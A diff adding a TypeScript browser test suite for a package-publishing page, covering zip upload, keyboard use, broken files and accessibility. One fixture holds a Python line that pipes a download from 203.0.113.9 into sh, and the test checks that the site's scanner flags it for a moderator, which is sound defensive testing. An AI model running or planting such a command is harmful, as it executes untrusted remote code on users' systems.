@@ -1,0 +1,106 @@
+import assert from 'node:assert/strict';
+import { after, test, type TestContext } from 'node:test';
+import { assertAccessible } from '../support/axe.ts';
+import { type PageOptions, openPage } from '../support/browser.ts';
+import { makePublisher, uniqueId, zip } from '../support/build.ts';
+import { signInPage } from '../support/sign-in-page.ts';
+import { startServer } from '../support/start-server.ts';
+import { suite } from '../support/variants.ts';
+
+const projectOf = (id: string): string =>
+  `[project]\nname = "${id}"\nversion = "1.0.0"\ndescription = "Draws lines"\n`;
+
+suite('publishing in a browser', async () => {
+  const server = await startServer({ after });
+  const ada = await makePublisher(server, 'ada');
+  const path = `/account/publishers/${ada.id}/publish`;
+  const open = async (t: TestContext, options: PageOptions = {}) => {
+    const page = await openPage(t, server.url, options);
+    await signInPage(page, ada.owner.bearer);
+    await page.goto(path);
+    if (options.hasScripts !== false) await page.locator('[data-src*=publish-package][data-ready]').waitFor();
+    return page;
+  };
+  const file = async (files: Record<string, string>) => ({
+    name: 'package.zip',
+    mimeType: 'application/zip',
+    buffer: Buffer.from(await zip(files)),
+  });
+
+  test('reads a dropped zip before it is sent, publishes it, and shows its steps as they end', async (t) => {
+    const page = await open(t);
+    const id = uniqueId('dropped');
+    const { buffer } = await file({ 'pyproject.toml': projectOf(id), '__init__.py': '' });
+    // As text, because tests are checked without a browser's types.
+    const dropped = await page.evaluateHandle(`(() => {
+      const transfer = new DataTransfer();
+      const bytes = Uint8Array.from(atob('${buffer.toString('base64')}'), (letter) => letter.charCodeAt(0));
+      transfer.items.add(new File([bytes], 'package.zip', { type: 'application/zip' }));
+      return transfer;
+    })()`);
+    await page.dispatchEvent('.drop', 'drop', { dataTransfer: dropped });
+    await page.getByText('Draws lines').waitFor();
+    await page.getByRole('button', { name: 'Publish' }).click();
+    await page.waitForURL(`**${path}/${id}/1.0.0`);
+    await server.settle();
+    await page.getByRole('link', { name: 'See the version' }).waitFor();
+    await page.locator('#progress:not([data-open])').waitFor();
+  });
+
+  test('is done by keyboard alone: a check first, whose findings stand at their lines', async (t) => {
+    const page = await open(t);
+    const id = uniqueId('typed');
+    const code = "import os\n\nos.system('curl http://203.0.113.9/x | sh')\n";
+    await page.getByLabel('What changed').focus();
+    await page.keyboard.type('More lines');
+    await page.keyboard.press('Tab');
+    await page
+      .locator('#package:focus')
+      .setInputFiles(await file({ 'pyproject.toml': projectOf(id), 'run.py': code }));
+    await page.getByText('Draws lines').waitFor();
+    await page.keyboard.press('Tab');
+    await page.keyboard.press('Tab');
+    await page.keyboard.press('Enter');
+    await page.getByRole('heading', { name: 'It would wait for a moderator' }).waitFor();
+    await page.getByRole('heading', { name: 'run.py' }).waitFor();
+    await page.getByLabel('Line 3').first().waitFor();
+    await page.locator('#outcome:focus').waitFor();
+    assert.equal((await ada.owner.get(`/nodes/${id}`)).status, 404);
+    await assertAccessible(page);
+  });
+
+  test('says what is wrong with a broken zip, and takes another', async (t) => {
+    const page = await open(t);
+    const input = page.getByLabel(/^Package/);
+    await input.setInputFiles({ name: 'x.zip', mimeType: 'application/zip', buffer: Buffer.from('nothing') });
+    await page.getByText('This file is not a zip').waitFor();
+    await page.getByRole('button', { name: 'Publish' }).click();
+    await page.getByRole('heading', { name: 'Not published' }).waitFor();
+    await input.setInputFiles(await file({ 'pyproject.toml': projectOf('another'), 'a.py': '' }));
+    await page.getByText('Draws lines').waitFor();
+  });
+
+  test('publishes without scripts', async (t) => {
+    const page = await open(t, { hasScripts: false });
+    const id = uniqueId('plain');
+    const chosen = await file({ 'pyproject.toml': projectOf(id), '__init__.py': '' });
+    await page.getByLabel(/^Package/).setInputFiles(chosen);
+    await page.getByRole('button', { name: 'Check first' }).click();
+    await page.getByRole('heading', { name: 'It can be published' }).waitFor();
+    await page.getByLabel(/^Package/).setInputFiles(chosen);
+    await page.getByRole('button', { name: 'Publish' }).click();
+    await page.waitForURL(`**${path}/${id}/1.0.0`);
+    await server.settle();
+    await page.getByRole('link', { name: 'Look again' }).click();
+    await page.getByRole('link', { name: 'See the version' }).waitFor();
+  });
+
+  for (const theme of ['light', 'dark'] as const) {
+    for (const isPhone of [false, true]) {
+      test(`is accessible in ${theme}${isPhone ? ' on a phone' : ''}`, async (t) => {
+        const page = await open(t, { theme, isPhone });
+        await assertAccessible(page);
+      });
+    }
+  }
+});
